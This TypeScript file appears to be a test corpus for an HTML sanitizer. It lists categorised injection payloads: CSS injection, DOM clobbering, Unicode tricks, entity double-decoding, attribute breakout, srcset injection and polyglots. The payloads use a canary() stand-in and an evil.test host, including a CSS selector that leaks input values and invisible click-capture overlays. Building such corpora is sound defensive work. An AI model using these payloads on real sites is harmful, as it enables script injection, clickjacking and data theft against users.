import type { Technique } from './technique.js'

const css: Technique = {
  name: 'css-injection',
  idea: 'style runs script in old engines, loads addresses, and covers the page',
  runsRaw: true,
  pages: [
    '<p style="background:url(https://evil.test/b.png)">text</p>',
    '<p style="background:url(javascript:canary(1))">text</p>',
    '<p style="width:expression(canary(1))">text</p>',
    '<p style="behavior:url(https://evil.test/x.htc)">text</p>',
    '<p style="-moz-binding:url(https://evil.test/x.xml#y)">text</p>',
    '<style>@import url(https://evil.test/c.css);</style><p>text</p>',
    '<style>body{background:url("https://evil.test/b.png")}</style><p>text</p>',
    '<style>p{}</style><style>@font-face{font-family:x;src:url(https://evil.test/f.woff)}p{font-family:x}</style><p>text</p>',
    '<a href="https://evil.test/" style="position:fixed;inset:0;z-index:9999;opacity:0">x</a>',
    '<div style="display:block;position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">overlay</div>',
    '<font style="list-style-image:url(\'https://evil.test/l.png\')" color="red;background:url(https://evil.test/b.png)">text</font>',
    '<p class="language-x"><code class="language-js&quot; style=&quot;background:url(https://evil.test/b.png)">code</code></p>',
    '<table style="background-image:\\75rl(https://evil.test/b.png)" background="https://evil.test/b.png"><tr><th>a<th>b</table>',
    '<style>input[value^=a]{background:url(https://evil.test/a)}</style><input value=abc>',
  ],
}

const clobbering: Technique = {
  name: 'dom-clobbering',
  idea: 'names and ids of elements shadow what a page looks up in its window or document',
  runsRaw: false,
  pages: [
    '<a id=location href="https://evil.test/">x</a><a href="#location">y</a>',
    '<p id=document>text</p><a href="#document">y</a>',
    '<a id=config><a id=config name=url href="https://evil.test/">x</a><a href="#config">y</a>',
    '<form id=self name=parent><input name=attributes><input id=parentNode>text</form><a href="#self">y</a>',
    '<img name=cookie src="https://page.test/a.png"><img name=body src="https://page.test/a.png">',
    '<p id=__proto__>text</p><a href="#__proto__">x</a><p id=constructor>text</p><a href="#constructor">x</a>',
    '<iframe name=top srcdoc="x"></iframe><object name=frames>text</object>',
    '<h2 id="canary">heading</h2><a href="#canary">x</a>',
    '<li id="x onclick=canary(1)">item</li><a href="#x onclick=canary(1)">x</a>',
    '<p id="a&quot;onclick=&quot;canary(1)">text</p><a href="#a&quot;onclick=&quot;canary(1)">x</a>',
    '<a name="getElementById">x</a><a href="#getElementById">y</a>',
  ],
}

const unicode: Technique = {
  name: 'unicode-and-control-characters',
  idea: 'characters that one reader skips and another does not: NUL, controls, format characters, halves of pairs',
  runsRaw: true,
  pages: [
    '<scr\0ipt>canary(1)</scr\0ipt>',
    '<img src=x one\0rror=canary(1) onerror=canary(1)>',
    '<a href="java\0script:canary(1)">x</a>',
    '<a href="\u2028javascript:canary(1)">x</a><a href="\u00a0javascript:canary(1)">y</a><a href="\ufeffjavascript:canary(1)">z</a>',
    '<img\u000bsrc=x\u000bonerror=canary(1)><img\u000csrc=x\u000conerror=canary(1)>',
    '\uff1cscript\uff1ecanary(1)\uff1c/script\uff1e',
    '<p>\u202e<img src=x onerror=canary(1)>\u202c</p>',
    '<p title="\ud800">\udc00<img src=x onerror=canary(1)>\ud83d</p>',
    '<a href="https://page.test/\ud800&#xD800;&#xDFFF;">x\ud800</a>',
    '<p>\u0000\u0001\u0002\u0008\u000e\u001b[31m\u007f\u009b31m text</p><img src=x onerror=canary(1)>',
    '<img alt="\u0000\u0060\u0000onerror=canary(1)" src=x onerror=canary(1)>',
    '<a href="&#x0;javascript:canary(1)">x</a><a href="&#xfffd;javascript:canary(1)">y</a>',
    '<p>\u180e<ſcript>canary(1)</ſcript><img src=x onerror=canary(1)></p>',
    '<\u0130mg src=x onerror=canary(1)><a href="javaſcript:canary(1)">x</a>',
    '<p>\u2066\u2067\u2068\u2069<bdo dir="rtl&quot; onclick=canary(1)">text</bdo></p><img src=x onerror=canary(1)>',
    '<p>a\u0085b\r\nc\rd</p><pre>\r\n\r<img src=x onerror=canary(1)></pre>',
  ],
}

const doubleDecoding: Technique = {
  name: 'entity-double-decoding',
  idea: 'text that becomes markup if references are decoded once more, or not encoded again',
  runsRaw: false,
  pages: [
    '<p>&lt;script&gt;canary(1)&lt;/script&gt;</p>',
    '<p>&lt;img src=x onerror=canary(1)&gt;</p>',
    '<p>&amp;lt;img src=x onerror=canary(1)&amp;gt;</p>',
    '<p>&#60;img src=x onerror=canary(1)&#62;</p>',
    '<p>&#x3c;svg onload=canary(1)&#x3e;</p>',
    '<p>&LT;img src=x onerror=canary(1)&GT;</p>',
    '<p>&lt<b>img src=x onerror=canary(1)</b>&gt</p>',
    '<p>&<!-- -->lt;img src=x onerror=canary(1)&<!-- -->gt;</p>',
    '<p>&<b></b>#60;img src=x onerror=canary(1)&<b></b>#62;</p>',
    '<img src="https://page.test/a.png" alt="&lt;img src=x onerror=canary(1)&gt;">',
    '<img src="https://page.test/a.png" alt="&amp;quot;&amp;gt;&amp;lt;img src=x onerror=canary(1)&amp;gt;">',
    '<a href="https://page.test/?q=&lt;script&gt;canary(1)&lt;/script&gt;">&lt;b onclick=canary(1)&gt;</a>',
    '<pre>&lt;/pre&gt;&lt;img src=x onerror=canary(1)&gt;</pre>',
    '<code>&lt;/code&gt;&lt;img src=x onerror=canary(1)&gt;</code>',
    '<table><tr><th>&lt;/table&gt;&lt;img src=x onerror=canary(1)&gt;<th>b</table>',
    '<title>&lt;/title&gt;&lt;img src=x onerror=canary(1)&gt;</title><p>text</p>',
    '<math><mtext>&lt;/mtext&gt;&lt;/math&gt;&lt;img src=x onerror=canary(1)&gt;</mtext></math>',
    "<p>&nvlt;img src=x onerror=canary(1)&nvgt; &lbrace;&lbrace;constructor.constructor('canary(1)')()&rbrace;&rbrace;</p>",
  ],
}

const breakout: Technique = {
  name: 'attribute-breakout',
  idea: 'a value ends its attribute and begins another',
  runsRaw: false,
  pages: [
    '<img src="https://page.test/a.png" alt="&quot; onerror=&quot;canary(1)" width=10000 height=10000>',
    '<img src="https://page.test/a.png" alt="\' onerror=\'canary(1)">',
    '<img src="https://page.test/a.png" alt="`onerror=canary(1)`">',
    '<img src="https://page.test/a.png" title="&quot;&gt;&lt;script&gt;canary(1)&lt;/script&gt;">',
    '<img src="https://page.test/a.png&quot; onerror=&quot;canary(1)" alt=p>',
    '<img src="x` `onerror=canary(1)`" alt="``onerror=canary(1)">',
    '<p lang="en&quot; onclick=&quot;canary(1)">text</p>',
    '<p dir="rtl&quot; onclick=&quot;canary(1)">text</p>',
    '<ol start="3&quot; onclick=&quot;canary(1)" type="a&quot; onclick=&quot;canary(1)"><li value="2&quot; onclick=&quot;canary(1)">x</ol>',
    '<table><tr><th colspan="2&quot; onclick=&quot;canary(1)" scope="col onclick=canary(1)">a<th>b</table>',
    '<time datetime="2020&quot; onclick=&quot;canary(1)">then</time><del datetime="&quot;&gt;&lt;script&gt;canary(1)&lt;/script&gt;">x</del>',
    '<abbr title="&quot; onmouseover=&quot;canary(1)">HTML</abbr><dfn title="x`y=&quot;z&quot;">d</dfn>',
    '<pre><code class="language-js&quot; onclick=&quot;canary(1)">x</code></pre><pre data-lang="&quot;&gt;&lt;img src=x onerror=canary(1)&gt;">y</pre>',
    '<blockquote cite="https://page.test/&quot; onclick=&quot;canary(1)">q</blockquote>',
    '<a href="https://page.test/&quot; onclick=&quot;canary(1)">x</a><a href="https://page.test/\' onclick=\'canary(1)">y</a>',
    '<a href="mailto:a@b.c&quot; onclick=&quot;canary(1)">x</a><a href="tel:1&quot;&gt;&lt;script&gt;canary(1)&lt;/script&gt;">y</a>',
    '<a href="/x\n\n&quot; onclick=canary(1) y=&quot;">x</a><a href="x>y<z`w">z</a>',
    '<details open="&quot; onclick=&quot;canary(1)"><summary title="&quot;&gt;&lt;img src=x onerror=canary(1)&gt;">s</summary>t</details>',
  ],
}

const srcset: Technique = {
  name: 'srcset-injection',
  idea: 'addresses of picture sets, lazy pictures and their twins carry schemes and quotes',
  runsRaw: true,
  pages: [
    '<img srcset="javascript:canary(1) 1x, data:text/html,<script>canary(1)</script> 2x" onerror=canary(1) alt=p>',
    '<img src="https://page.test/a.png" srcset="https://page.test/b.png&quot;onerror=&quot;canary(1) 2x">',
    '<img src="https://page.test/a.png" srcset="https://page.test/b.png 1x&quot; onerror=&quot;canary(1)&quot;, c.png 2x">',
    '<img data-src="x&quot; onerror=&quot;canary(1)" alt=p><img data-src="x.png&quot;onerror=&quot;canary(1)" alt=q>',
    '<img data-srcset="//page.test/a.png 1x,,,\tjavascript:canary(1)/.png 2x" alt=p>',
    '<img data-original="java\tscript:canary(1)/a.png" alt=p>',
    '<picture><source srcset="javascript:canary(1)/.png"><source data-srcset="x.png&quot; onerror=canary(1)"><img src=data:, alt=p></picture>',
    '<p>a</p><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><noscript><img src="x.png" onerror="canary(1)" alt="&quot;&gt;&lt;img src=x onerror=canary(1)&gt;"></noscript><p>b</p>',
    '<img data-src="/p_{width}&quot;onerror=&quot;canary(1).jpg" data-widths="[1,&quot;onerror=canary(1)]" alt=p>',
    '<figure><img srcset="//page.test/a.png 1e3w, //page.test/b.png -2x, //page.test/c.png 99999999999999w" onerror=canary(1) sizes="&quot;onload=canary(1)"><figcaption>c<script>canary(1)</script></figcaption></figure>',
  ],
}

const polyglots: Technique = {
  name: 'polyglots',
  idea: 'one string that works in text, in every kind of attribute, in raw text and in script',
  runsRaw: true,
  pages: [
    "jav\tascript:/*--></title></style></textarea></script></xmp></noscript></template><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+canary(1)//'>",
    '"\'--></style></script><img src=x onerror=canary(1)><!-- `',
    '*/canary(1)/*"onerror=canary(1)//\'><img src=x onerror=canary(1)>]]>-->',
    '</p></div></td></tr></table></body></html><img src=x onerror=canary(1)>',
    '<a href="javascript:canary(1)" title="&quot; onclick=canary(1)"><img src=x onerror=canary(1) alt="](javascript:canary(1))">`</a>',
    '<!--<img src="--><img src=x onerror=canary(1)//"><![CDATA[><svg onload=canary(1)>]]>{{7*7}}$' + '{canary(1)}<%= canary(1) %>',
    '<x><plaintext/></|\\><img src=x onerror=canary(1)></x>',
  ],
}

/** Attacks through attribute values, names and characters. */
export const valueTechniques: readonly Technique[] = [css, clobbering, unicode, doubleDecoding, breakout, srcset, polyglots]
